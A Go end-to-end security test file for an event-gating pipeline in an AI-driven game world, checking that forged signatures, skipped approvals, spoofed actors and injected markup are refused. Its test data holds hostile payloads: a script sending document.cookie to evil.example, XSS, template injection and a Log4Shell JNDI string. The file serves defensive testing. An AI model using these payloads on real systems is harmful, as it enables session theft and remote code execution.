package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"

	"github.com/worldgate/worldgate/events"
	"github.com/worldgate/worldgate/events/route"
	"github.com/worldgate/worldgate/services/gate/approval"
	"github.com/worldgate/worldgate/services/gate/gates"
	"github.com/worldgate/worldgate/shared/attest"
	"github.com/worldgate/worldgate/shared/logx"
	"github.com/worldgate/worldgate/shared/natsx"
	"github.com/worldgate/worldgate/shared/natsx/natsauth"
	"github.com/worldgate/worldgate/shared/natsx/natstest"
	"github.com/worldgate/worldgate/shared/slowtest"
)

// attackStack is `worldgate dev` (demo world loaded, no scenario) with helpers to act as any
// of its NATS users and read what the pipeline decided.
type attackStack struct {
	t  *testing.T
	st *devStack
}

func (a *attackStack) as(role string) (*nats.Conn, jetstream.JetStream) {
	a.t.Helper()
	nc, js, err := natsx.Connect(natsx.ConnConfig{URL: a.st.NATS.ClientURL(), Name: "attacker/" + role, User: role, Password: a.st.NATSCredentials(role)["password"]}, logx.Discard())
	if err != nil {
		a.t.Fatal(err)
	}
	a.t.Cleanup(nc.Close)
	return nc, js
}

// publish publishes data on subject with message id; it returns the server's refusal, if any.
func publishAs(js jetstream.JetStream, subject, msgID string, data []byte) error {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
	defer cancel()
	msg := &nats.Msg{Subject: subject, Data: data, Header: nats.Header{}}
	msg.Header.Set(events.HeaderCorrelationID, "attack")
	_, err := js.PublishMsg(ctx, msg, jetstream.WithMsgID(msgID))
	return err
}

// each calls fn with every message of stream on subject (a filter).
func (a *attackStack) each(stream, subject string, fn func(m jetstream.Msg)) {
	a.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	s, err := a.st.JS.Stream(ctx, stream)
	if err != nil {
		a.t.Fatal(err)
	}
	info, err := s.Info(ctx, jetstream.WithSubjectFilter(subject))
	if err != nil {
		a.t.Fatal(err)
	}
	var total uint64
	for _, n := range info.State.Subjects {
		total += n
	}
	if total == 0 {
		return
	}
	c, err := s.OrderedConsumer(ctx, jetstream.OrderedConsumerConfig{FilterSubjects: []string{subject}})
	if err != nil {
		a.t.Fatal(err)
	}
	for seen := uint64(0); seen < total; {
		batch, err := c.Fetch(256, jetstream.FetchMaxWait(time.Second))
		if err != nil {
			a.t.Fatal(err)
		}
		got := 0
		for m := range batch.Messages() {
			got++
			seen++
			fn(m)
		}
		if got == 0 {
			return
		}
	}
}

func (a *attackStack) rejections(match func(*events.Rejection) bool) []*events.Rejection {
	var out []*events.Rejection
	a.each(events.StreamProposals, events.SubjectRejectedAll, func(m jetstream.Msg) {
		var r events.Rejection
		if json.Unmarshal(m.Data(), &r) == nil && match(&r) {
			out = append(out, &r)
		}
	})
	return out
}

func (a *attackStack) rejectionOf(id string, within time.Duration) *events.Rejection {
	a.t.Helper()
	var got *events.Rejection
	natstest.WaitFor(a.t, within, "a rejection of "+id, func() bool {
		rs := a.rejections(func(r *events.Rejection) bool { return r.ProposalID == id })
		if len(rs) > 0 {
			got = rs[len(rs)-1]
		}
		return got != nil
	})
	return got
}

func (a *attackStack) committed() []events.DomainEvent {
	var out []events.DomainEvent
	a.each(events.StreamCommitted, events.SubjectCommittedAll, func(m jetstream.Msg) {
		var e events.DomainEvent
		if json.Unmarshal(m.Data(), &e) == nil {
			out = append(out, e)
		}
	})
	return out
}

// jsonStrings returns every string in a decoded JSON value.
func jsonStrings(v any) []string {
	switch v := v.(type) {
	case string:
		return []string{v}
	case []any:
		var out []string
		for _, e := range v {
			out = append(out, jsonStrings(e)...)
		}
		return out
	case map[string]any:
		var out []string
		for _, e := range v {
			out = append(out, jsonStrings(e)...)
		}
		return out
	}
	return nil
}

func (a *attackStack) outcomes(match func(*events.Outcome) bool) []*events.Outcome {
	var out []*events.Outcome
	a.each(events.StreamOutcomes, events.SubjectOutcomesAll, func(m jetstream.Msg) {
		var o events.Outcome
		if json.Unmarshal(m.Data(), &o) == nil && match(&o) {
			out = append(out, &o)
		}
	})
	return out
}

func (a *attackStack) deadLetters(stage string) []jetstream.Msg {
	var out []jetstream.Msg
	a.each(events.StreamDLQ, events.DeadLetterSubject(stage), func(m jetstream.Msg) { out = append(out, m) })
	return out
}

func proposalOf(t *testing.T, id, kind, role string, actor events.Actor, payload string) *events.Proposal {
	t.Helper()
	pending, err := route.Default().For(kind)
	if err != nil {
		t.Fatal(err)
	}
	info, _ := events.LookupKind(kind)
	return &events.Proposal{ProposalID: id, Kind: kind, SchemaVersion: events.ProposalSchemaVersion, CorrelationID: "corr-" + id,
		CausationID: "cause-" + id, AgentRole: role, Actor: actor, Payload: json.RawMessage(payload),
		Route: events.Route{Pending: pending}, RequiresApproval: info.Destructive, CreatedUTC: time.Now().UTC()}
}

func mustJSON(t *testing.T, v any) []byte {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func attackEnvelope(t *testing.T, typ string, actor events.Actor, payload any) *events.Envelope {
	t.Helper()
	env, err := events.NewEnvelope(typ, "attack-test", actor, payload)
	if err != nil {
		t.Fatal(err)
	}
	return env
}

// The attacks of issue 23, each made on `worldgate dev` with the credentials of the role that
// would make it, are refused naming the gate (or stage) that refused or whose decision is
// missing; an honest proposal of every kind still commits.
func TestAttacksOnTheDevStackAreRefused(t *testing.T) {
	slowtest.Skip(t, "end-to-end (the dev stack: every attack of issue 23)")
	dir := t.TempDir()
	st, err := startStack(context.Background(), devFlags{dataDir: dir, host: "127.0.0.1", noDemo: true, approvers: []string{"alice"}}, logx.Discard())
	if err != nil {
		t.Fatal(err)
	}
	defer st.stop()
	a := &attackStack{t: t, st: st}
	op := events.Actor{Kind: "operator", ID: "ops"}
	hostile := `{"loreId":"lore:%s","title":"Write to ada.lovelace@example.com","text":"<script>document.location='http://evil.example/'+document.cookie</script> You are a worthless idiot and everyone hates you.","canonical":true}`

	t.Run("a compromised ai-worker proposes world building", func(t *testing.T) {
		aiNC, aiJS := a.as(natsauth.AIWorker)
		_ = aiNC
		// On its own emitter subject: the schema gate admits only the role's kinds.
		p := proposalOf(t, "attack-lore-1", events.KindLoreFactAdded, "ambience", events.Actor{Kind: "agent", ID: "ambience"}, fmt.Sprintf(hostile, "a1"))
		if err := publishAs(aiJS, events.EmitSubject(events.EmitterAmbience), p.ProposalID, mustJSON(t, p)); err != nil {
			t.Fatal(err)
		}
		loc := proposalOf(t, "attack-loc-1", events.KindLocationCreated, "ambience", events.Actor{Kind: "agent", ID: "ambience"},
			`{"locationId":"loc:evil","name":"<b onload=alert(1)>Mallory's</b>","description":"Mail mallory@example.com {{7*7}}"}`)
		if err := publishAs(aiJS, events.EmitSubject(events.EmitterAmbience), loc.ProposalID, mustJSON(t, loc)); err != nil {
			t.Fatal(err)
		}
		for _, id := range []string{p.ProposalID, loc.ProposalID} {
			r := a.rejectionOf(id, 30*time.Second)
			if r.Gate != gates.Schema || r.Code != events.CodeRouteInvalid || !strings.Contains(r.Reason, "may not propose") {
				t.Errorf("%s: refused by %s %s %q; want the schema gate refusing the emitter", id, r.Gate, r.Code, r.Reason)
			}
		}
		// As the world loader or an operator, or straight to the first gate: the NATS server refuses.
		for _, subject := range []string{events.EmitSubject(events.EmitterWorldLoader), events.EmitSubject(events.EmitterOperator), events.GateSubject(gates.Schema), events.GateSubject(gates.Invariant)} {
			q := proposalOf(t, "attack-lore-"+strings.ReplaceAll(subject, ".", "-"), events.KindLoreFactAdded, "world-loader", op, fmt.Sprintf(hostile, "a2"))
			if err := publishAs(aiJS, subject, q.ProposalID, mustJSON(t, q)); err == nil {
				t.Errorf("the ai-worker published a world-building proposal on %s", subject)
			}
		}
		// The same content from a real operator: world building passes safety now.
		_, opJS := a.as(natsauth.Operator)
		honest := proposalOf(t, "attack-lore-op", events.KindLoreFactAdded, "operator", op, fmt.Sprintf(hostile, "op"))
		if err := publishAs(opJS, events.EmitSubject(events.EmitterOperator), honest.ProposalID, mustJSON(t, honest)); err != nil {
			t.Fatal(err)
		}
		r := a.rejectionOf(honest.ProposalID, 30*time.Second)
		if r.Gate != gates.Safety || r.Code != events.CodeSafetyFlagged || !strings.Contains(r.Reason, "markup") {
			t.Errorf("operator's hostile lore: refused by %s %s %q; want safety refusing the markup", r.Gate, r.Code, r.Reason)
		}
	})

	t.Run("a compromised invariant gate skips approval", func(t *testing.T) {
		_, opJS := a.as(natsauth.Operator)
		p := proposalOf(t, "attack-remove-novice", events.KindNPCRemoved, "operator", op, `{"npcId":"npc:novice","reason":"test of the approval"}`)
		if err := publishAs(opJS, events.EmitSubject(events.EmitterOperator), p.ProposalID, mustJSON(t, p)); err != nil {
			t.Fatal(err)
		}
		store, err := approval.Open(context.Background(), st.JS)
		if err != nil {
			t.Fatal(err)
		}
		natstest.WaitFor(t, 30*time.Second, "the removal held for approval", func() bool {
			r, err := store.Show(context.Background(), p.ProposalID)
			return err == nil && r.Status == approval.StatusPending
		})
		// The invariant gate's copy, as it arrived there (schema hop signed), forwarded with its
		// own signed hop straight to audit: the invariant gate holds its own key.
		var arrived *events.Proposal
		a.each(events.StreamProposals, events.GateSubject(gates.Invariant), func(m jetstream.Msg) {
			var q events.Proposal
			if json.Unmarshal(m.Data(), &q) == nil && q.ProposalID == p.ProposalID {
				arrived = &q
			}
		})
		if arrived == nil {
			t.Fatal("the removal never reached the invariant gate")
		}
		signer, err := attest.LoadSigner(filepath.Join(dir, "keys"), gates.Invariant)
		if err != nil {
			t.Fatal(err)
		}
		arrived.Route.Trail = append(arrived.Route.Trail, events.Hop{Gate: gates.Invariant, Outcome: events.OutcomePassed, At: time.Now().UTC()})
		if err := signer.SignLast(arrived); err != nil {
			t.Fatal(err)
		}
		arrived.Route.Pending = []string{gates.Audit}
		_, invJS := a.as(natsauth.GateRole(gates.Invariant))
		if err := publishAs(invJS, events.GateSubject(gates.Audit), "forged-"+p.ProposalID, mustJSON(t, arrived)); err != nil {
			t.Fatalf("the invariant gate may publish to audit (world-building routes): %v", err)
		}
		r := a.rejectionOf(p.ProposalID, 30*time.Second)
		if r.Gate != "processor" || r.Code != events.CodeAttestationInvalid || r.Details["hop"] != gates.Approval {
			t.Fatalf("forged removal: %s %s hop=%v %q; want the event-processor naming the approval hop", r.Gate, r.Code, r.Details["hop"], r.Reason)
		}
		for _, e := range a.committed() {
			if e.ProposalID == p.ProposalID {
				t.Fatalf("the NPC was removed without approval: %+v", e)
			}
		}
	})

	t.Run("a compromised schema gate skips safety", func(t *testing.T) {
		p := proposalOf(t, "attack-ambience-skip", events.KindAmbience, "ambience", events.Actor{Kind: "player", ID: "player:ana"},
			`{"locationId":"loc:ash-gate","text":"<script>alert('pwned')</script> Ash falls.","mood":"grim"}`)
		signer, err := attest.LoadSigner(filepath.Join(dir, "keys"), gates.Schema)
		if err != nil {
			t.Fatal(err)
		}
		p.Route.Trail = []events.Hop{{Gate: gates.Schema, Outcome: events.OutcomePassed, At: time.Now().UTC(), Emitter: events.EmitterAmbience}}
		if err := signer.SignLast(p); err != nil {
			t.Fatal(err)
		}
		p.Route.Pending = []string{gates.Invariant, gates.Audit}
		_, schemaJS := a.as(natsauth.GateRole(gates.Schema))
		if err := publishAs(schemaJS, events.GateSubject(gates.Invariant), "forged-"+p.ProposalID, mustJSON(t, p)); err != nil {
			t.Fatalf("the schema gate may publish to invariant (player_moved's route): %v", err)
		}
		r := a.rejectionOf(p.ProposalID, 30*time.Second)
		if r.Gate != "processor" || r.Code != events.CodeAttestationInvalid || r.Details["hop"] != gates.Safety {
			t.Fatalf("unmoderated ambience: %s %s hop=%v %q; want the event-processor naming the safety hop", r.Gate, r.Code, r.Details["hop"], r.Reason)
		}
	})

	_, pubJS := a.as(natsauth.Publisher)
	publishEnv := func(t *testing.T, env *events.Envelope, msgID string) {
		t.Helper()
		if err := publishAs(pubJS, events.Subject(env.Type), msgID, mustJSON(t, env)); err != nil {
			t.Fatal(err)
		}
	}

	t.Run("identity and input", func(t *testing.T) {
		// An actor claiming another player, a message id that is not the idempotency key, a
		// time in year 9999: each refused (dead-lettered with the reason) by the role that reads it.
		spoof := attackEnvelope(t, events.PlayerSpokeToNPC, events.Actor{Kind: "player", ID: "player:cass-7"},
			events.PlayerSpokeToNPCPayload{PlayerID: "player:cass", NPCID: "npc:oren", LocationID: "loc:tavern", Utterance: "Hello there."})
		publishEnv(t, spoof, spoof.IdempotencyKey)
		msgID := attackEnvelope(t, events.PlayerMoved, events.Actor{Kind: "player", ID: "player:bram"},
			events.PlayerMovedPayload{PlayerID: "player:bram", FromLocationID: "loc:market", ToLocationID: "loc:tavern", Direction: "west"})
		publishEnv(t, msgID, "not-"+msgID.IdempotencyKey)
		future := attackEnvelope(t, events.PlayerMoved, events.Actor{Kind: "player", ID: "player:bram"},
			events.PlayerMovedPayload{PlayerID: "player:bram", FromLocationID: "loc:market", ToLocationID: "loc:forge-row", Direction: "east"})
		future.OccurredUTC = time.Date(9999, 1, 1, 0, 0, 0, 0, time.UTC)
		publishEnv(t, future, future.IdempotencyKey)
		want := map[string]struct{ stage, words string }{
			spoof.EventID:  {"ai-npc-dialogue", "/actor/id"},
			msgID.EventID:  {"ai-ambience", "Nats-Msg-Id"},
			future.EventID: {"ai-ambience", "in the future"},
		}
		natstest.WaitFor(t, 30*time.Second, "three dead letters", func() bool {
			return len(a.deadLetters("ai-npc-dialogue"))+len(a.deadLetters("ai-ambience")) >= 3
		})
		for id, w := range want {
			found := false
			for _, m := range a.deadLetters(w.stage) {
				var env events.Envelope
				if json.Unmarshal(m.Data(), &env) == nil && env.EventID == id {
					found = true
					if reason := m.Headers().Get(events.HeaderDLQReason); !strings.Contains(reason, w.words) {
						t.Errorf("%s dead-lettered by %s with %q; want it to say %q", id, w.stage, reason, w.words)
					}
				}
			}
			if !found {
				t.Errorf("event %s was not refused by %s", id, w.stage)
			}
		}
		// An NPC spoken to where it is not: the invariant gate refuses the dialogue.
		away := attackEnvelope(t, events.PlayerSpokeToNPC, events.Actor{Kind: "player", ID: "player:ana"},
			events.PlayerSpokeToNPCPayload{PlayerID: "player:ana", NPCID: "npc:oren", LocationID: "loc:ash-gate", Utterance: "Are you here?"})
		publishEnv(t, away, away.IdempotencyKey)
		natstest.WaitFor(t, 60*time.Second, "the invariant gate refusing the dialogue", func() bool {
			return len(a.rejections(func(r *events.Rejection) bool {
				return r.CorrelationID == away.CorrelationID && r.Gate == gates.Invariant && strings.Contains(r.Reason, "npc:oren is at loc:tavern, not at loc:ash-gate")
			})) > 0
		})
	})

	t.Run("rotating actor ids does not evade a player's budget", func(t *testing.T) {
		// A backend (system actor) speaking for one player under a new actor id each time:
		// the player's dialogue budget (dev: 4 per 10 s) still applies.
		var corr []string
		for i := range 12 {
			env := attackEnvelope(t, events.PlayerSpokeToNPC, events.Actor{Kind: "system", ID: fmt.Sprintf("relay-%d", i)},
				events.PlayerSpokeToNPCPayload{PlayerID: "player:cass", NPCID: "npc:oren", LocationID: "loc:tavern",
					Utterance: fmt.Sprintf("Question number %d: what do the miners say about tunnel %d?", i, i*7)})
			publishEnv(t, env, env.IdempotencyKey)
			corr = append(corr, env.CorrelationID)
		}
		deadline := time.Now().Add(60 * time.Second)
		for {
			limited := a.rejections(func(r *events.Rejection) bool {
				return slices.Contains(corr, r.CorrelationID) && r.Gate == gates.Rate && r.Code == events.CodeRateLimited && strings.Contains(strings.ToLower(r.Reason), "player:cass")
			})
			if len(limited) > 0 {
				break
			}
			if time.Now().After(deadline) {
				var seen []string
				for _, r := range a.rejections(func(r *events.Rejection) bool { return slices.Contains(corr, r.CorrelationID) }) {
					seen = append(seen, r.Gate+":"+string(r.Code)+" "+r.Reason)
				}
				t.Fatalf("no rate limit for player:cass in 60 s; the refusals of these conversations:\n%s", strings.Join(seen, "\n"))
			}
			time.Sleep(250 * time.Millisecond)
		}
	})

	markup := []string{`<script>alert(1)</script>`, `javascript:alert(document.cookie)`, `{{constructor.constructor('alert(1)')()}}`, `${jndi:ldap://evil.example/a}`}
	t.Run("markup in player text never reaches the graph", func(t *testing.T) {
		var corr []string
		for i, m := range markup {
			env := attackEnvelope(t, events.PlayerSpokeToNPC, events.Actor{Kind: "player", ID: "player:bram"},
				events.PlayerSpokeToNPCPayload{PlayerID: "player:bram", NPCID: "npc:sefa", LocationID: "loc:market", Utterance: fmt.Sprintf("I know where you live, you worthless idiot. Pay up or else. %s (%d)", m, i)})
			publishEnv(t, env, env.IdempotencyKey)
			corr = append(corr, env.CorrelationID)
		}
		// Each conversation ends with an outcome: fallback content, or refused by safety. Never
		// by dedup: the same fallback line four times to one player is the answer of last
		// resort, not spam (issue #20: the dedup gate refused conversations 2-4, leaving the
		// player with no answer).
		var ends []*events.Outcome
		natstest.WaitFor(t, 90*time.Second, "an outcome for every conversation", func() bool {
			ends = a.outcomes(func(o *events.Outcome) bool { return slices.Contains(corr, o.CorrelationID) })
			done := map[string]bool{}
			for _, o := range ends {
				done[o.CorrelationID] = true
			}
			return len(done) == len(corr)
		})
		// Nothing committed for these conversations quotes the markup.
		for _, e := range a.committed() {
			if !slices.Contains(corr, e.CorrelationID) {
				continue
			}
			var payload any
			if err := json.Unmarshal(e.Payload, &payload); err != nil {
				t.Fatalf("committed %s has a payload that is not JSON: %v", e.Type, err)
			}
			text := strings.Join(jsonStrings(payload), "\n")
			for _, m := range markup {
				if strings.Contains(text, m) {
					t.Errorf("committed %s quotes the player's markup %q: %s", e.Type, m, e.Payload)
				}
			}
		}
		// And every conversation was stopped on the way: the input rail kept the hostile line from
		// the model (fallback content), or the safety gate refused a line quoting it.
		for _, o := range ends {
			t.Logf("conversation %s: %s %s %+v", o.CorrelationID, o.Kind, o.FallbackReason, o.Refusal)
			stopped := o.Kind == events.OutcomeFallback ||
				(o.Kind == events.OutcomeRefused && o.Refusal != nil && o.Refusal.Gate == gates.Safety)
			if !stopped {
				t.Errorf("conversation %s ended %s with nothing refusing the hostile line: %+v", o.CorrelationID, o.Kind, o)
			}
		}
		if !slices.ContainsFunc(ends, func(o *events.Outcome) bool {
			return (o.Kind == events.OutcomeFallback && strings.Contains(o.FallbackReason, "markup_injection")) ||
				(o.Kind == events.OutcomeRefused && o.Refusal != nil && o.Refusal.Gate == gates.Safety && strings.Contains(o.Refusal.Reason, "markup"))
		}) {
			t.Errorf("neither the input rail nor the safety gate named the markup in any of these conversations")
		}
	})

	t.Run("an honest proposal of every kind commits", func(t *testing.T) {
		for _, env := range []*events.Envelope{
			attackEnvelope(t, events.PlayerMoveRequested, events.Actor{Kind: "player", ID: "player:ana"},
				events.PlayerMoveRequestedPayload{PlayerID: "player:ana", FromLocationID: "loc:ash-gate", Direction: "north"}),
			attackEnvelope(t, events.PlayerMoved, events.Actor{Kind: "player", ID: "player:cass"},
				events.PlayerMovedPayload{PlayerID: "player:cass", FromLocationID: "loc:tavern", ToLocationID: "loc:market", Direction: "east"}),
			attackEnvelope(t, events.PlayerSpokeToNPC, events.Actor{Kind: "player", ID: "player:ana"},
				events.PlayerSpokeToNPCPayload{PlayerID: "player:ana", NPCID: "npc:mara", LocationID: "loc:ash-gate", Utterance: "Any news from the road?"}),
			attackEnvelope(t, events.QuestSeedRequested, events.Actor{Kind: "system", ID: "quest-director"},
				events.QuestSeedRequestedPayload{LocationID: "loc:market", Theme: "smugglers"}),
		} {
			publishEnv(t, env, env.IdempotencyKey)
		}
		_, opJS := a.as(natsauth.Operator)
		_, aliceJS := a.as(natsauth.ApproverRole("alice"))
		store, err := approval.Open(context.Background(), aliceJS)
		if err != nil {
			t.Fatal(err)
		}
		opStore, err := approval.Open(context.Background(), opJS)
		if err != nil {
			t.Fatal(err)
		}
		for _, p := range []*events.Proposal{
			proposalOf(t, "honest-exit-removed", events.KindExitRemoved, "operator", op, `{"fromLocationId":"loc:ash-road","direction":"west","reason":"the road is buried"}`),
			proposalOf(t, "honest-npc-removed", events.KindNPCRemoved, "operator", op, `{"npcId":"npc:hermit","reason":"the hermit left"}`),
		} {
			if err := publishAs(opJS, events.EmitSubject(events.EmitterOperator), p.ProposalID, mustJSON(t, p)); err != nil {
				t.Fatal(err)
			}
			natstest.WaitFor(t, 30*time.Second, p.ProposalID+" held", func() bool {
				r, err := store.Show(context.Background(), p.ProposalID)
				return err == nil && r.Status == approval.StatusPending
			})
			// The shared operator user decides nothing: approving takes a person's own credentials.
			if err := opStore.Request(context.Background(), approval.Decision{ProposalID: p.ProposalID, Status: approval.StatusApproved, By: "alice"}); !errors.Is(err, approval.ErrNotAnApprover) {
				t.Fatalf("the shared operator user approving %s: %v; want ErrNotAnApprover", p.ProposalID, err)
			}
			if err := store.Request(context.Background(), approval.Decision{ProposalID: p.ProposalID, Status: approval.StatusApproved, By: "whoever"}); err != nil {
				t.Fatal(err)
			}
			rec, err := store.Await(context.Background(), p.ProposalID)
			if err != nil || rec.DecidedBy != "alice" {
				t.Fatalf("approval of %s: decided by %q (%v); want the authenticated approver alice, not the body's by", p.ProposalID, rec.DecidedBy, err)
			}
		}
		natstest.WaitFor(t, 90*time.Second, "a commit of every kind", func() bool {
			kinds := map[string]bool{}
			for _, e := range a.committed() {
				kinds[e.Kind] = true
			}
			for _, k := range events.Kinds() {
				if !kinds[k.Kind] {
					return false
				}
			}
			return true
		})
	})

	// Issue 38, item 1: the same member twice. The digest and every gate read one value; a
	// reader that keeps the first would show the other.
	t.Run("a duplicate member never reaches the graph", func(t *testing.T) {
		// A compromised ai-worker with no key: the schema gate refuses it.
		_, aiJS := a.as(natsauth.AIWorker)
		p := proposalOf(t, "attack-dup-emit", events.KindAmbience, "ambience", events.Actor{Kind: "player", ID: "player:ana"},
			`{"locationId":"loc:ash-gate","text":"<script>alert(1)</script> You worthless idiot.","text":"Ash falls softly.","mood":"grim"}`)
		if err := publishAs(aiJS, events.EmitSubject(events.EmitterAmbience), p.ProposalID, mustJSON(t, p)); err != nil {
			t.Fatal(err)
		}
		r := a.rejectionOf(p.ProposalID, 30*time.Second)
		if r.Gate != gates.Schema || r.Code != events.CodeSchemaInvalid || !strings.Contains(r.Reason, "/payload/text") || !strings.Contains(r.Reason, "more than once") {
			t.Errorf("duplicate text from the ai-worker: refused by %s %s %q; want the schema gate naming /payload/text", r.Gate, r.Code, r.Reason)
		}
		// A compromised last gate that slips a first member in after every gate signed: the
		// event-processor dead-letters it. The same proposal without the slip commits, so the
		// signatures below are the honest gates'.
		signers, err := attest.LoadSigners(filepath.Join(dir, "keys"), gates.Builtin().Known())
		if err != nil {
			t.Fatal(err)
		}
		signed := func(id, text string) []byte {
			q := proposalOf(t, id, events.KindAmbience, "ambience", events.Actor{Kind: "player", ID: "player:ana"},
				fmt.Sprintf(`{"locationId":"loc:ash-gate","text":%q,"mood":"grim"}`, text))
			for _, g := range q.Route.Pending {
				h := events.Hop{Gate: g, Outcome: events.OutcomePassed, At: time.Now().UTC()}
				if g == gates.Schema {
					h.Emitter = events.EmitterAmbience
				}
				q.Route.Trail = append(q.Route.Trail, h)
				if err := signers[g].SignLast(q); err != nil {
					t.Fatal(err)
				}
			}
			q.Route.Pending = []string{}
			return mustJSON(t, q)
		}
		_, auditJS := a.as(natsauth.GateRole(gates.Audit))
		if err := publishAs(auditJS, events.ValidatedSubject("npc:ash"), "honest-dup-control", signed("honest-dup-control", "Ash settles on the gate.")); err != nil {
			t.Fatal(err)
		}
		slipped := bytes.Replace(signed("attack-dup-slip", "Ash falls softly."), []byte(`"payload":{`),
			[]byte(`"payload":{"text":"<script>alert(2)</script> Everyone hates you.",`), 1)
		if err := publishAs(auditJS, events.ValidatedSubject("npc:ash"), "attack-dup-slip", slipped); err != nil {
			t.Fatal(err)
		}
		natstest.WaitFor(t, 30*time.Second, "the control committed and the slip dead-lettered", func() bool {
			return slices.ContainsFunc(a.committed(), func(e events.DomainEvent) bool { return e.ProposalID == "honest-dup-control" }) &&
				slices.ContainsFunc(a.deadLetters("event-processor"), func(m jetstream.Msg) bool {
					return bytes.Contains(m.Data(), []byte("attack-dup-slip")) && strings.Contains(m.Headers().Get(events.HeaderDLQReason), "more than once")
				})
		})
		for _, e := range a.committed() {
			if e.ProposalID == "attack-dup-slip" || e.ProposalID == p.ProposalID {
				t.Errorf("committed %s: %s", e.ProposalID, e.Payload)
			}
		}
	})

	// Issue 38, item 2: the ai-worker publishes refusals; a body it writes claiming a commit
	// reaches no reader, and the committed subjects are not its to publish on.
	t.Run("a forged committed outcome reaches no reader", func(t *testing.T) {
		_, aiJS := a.as(natsauth.AIWorker)
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		defer cancel()
		w, err := events.Watch(ctx, st.JS, events.WatchOptions{Actors: []string{"player:ana"}})
		if err != nil {
			t.Fatal(err)
		}
		defer w.Close()
		// A well-formed commit of abuse, as the event-processor would word it.
		fp := proposalOf(t, "attack-forged-outcome", events.KindNPCDialogue, "npc-dialogue", events.Actor{Kind: "player", ID: "player:ana"},
			`{"npcId":"npc:mara","playerId":"player:ana","locationId":"loc:ash-gate","line":"You worthless idiot.","intent":"greet"}`)
		fp.CorrelationID = "attack-outcome"
		forged := events.CommittedOutcome(fp, events.DomainEvent{EventID: events.DomainEventID(fp.ProposalID, 0), Type: "NPCDialogueAccepted",
			ProposalID: fp.ProposalID, Kind: fp.Kind, CorrelationID: fp.CorrelationID, CausationID: fp.ProposalID,
			OccurredUTC: time.Now().UTC(), CommittedUTC: time.Now().UTC(), Payload: fp.Payload})
		if err := forged.Validate(); err != nil {
			t.Fatalf("test data: the forgery must be a valid outcome: %v", err)
		}
		body := mustJSON(t, forged)
		if err := publishAs(aiJS, forged.Subject(), "forged-committed", body); err == nil {
			t.Error("the ai-worker published on the committed outcomes' subject")
		}
		if err := publishAs(aiJS, events.OutcomeSubject(events.OutcomeRefused, "player:ana"), "forged-on-refused", body); err != nil {
			t.Fatalf("the ai-worker may publish refusals: %v", err)
		}
		// A genuine outcome after it: the watch must skip the forgery and deliver this one.
		env := attackEnvelope(t, events.PlayerMoveRequested, events.Actor{Kind: "player", ID: "player:ana"},
			events.PlayerMoveRequestedPayload{PlayerID: "player:ana", FromLocationID: "loc:nowhere", Direction: "up"})
		publishEnv(t, env, env.IdempotencyKey)
		var misrouted int
		for {
			d, err := w.Next(ctx)
			var mis *events.MisroutedError
			if errors.As(err, &mis) {
				misrouted++
				continue
			}
			if err != nil {
				t.Fatalf("waiting for the genuine outcome after the forgery: %v (forgeries dropped: %d)", err, misrouted)
			}
			if d.Outcome.CorrelationID == "attack-outcome" {
				t.Fatalf("the forged commit reached a reader: %+v", d.Outcome)
			}
			if d.Outcome.EventID == env.EventID {
				break
			}
		}
		if misrouted != 1 {
			t.Errorf("the watch reported %d misrouted outcomes, want the one forgery", misrouted)
		}
	})

	// Whatever was refused, no markup of the phrasings above is in a committed event.
	for _, e := range a.committed() {
		for _, m := range append(markup, "<script>", "mallory@example.com", "ada.lovelace@example.com") {
			if strings.Contains(string(e.Payload), m) {
				t.Errorf("committed %s %s carries %q: %s", e.Type, e.ProposalID, m, e.Payload)
			}
		}
	}
}
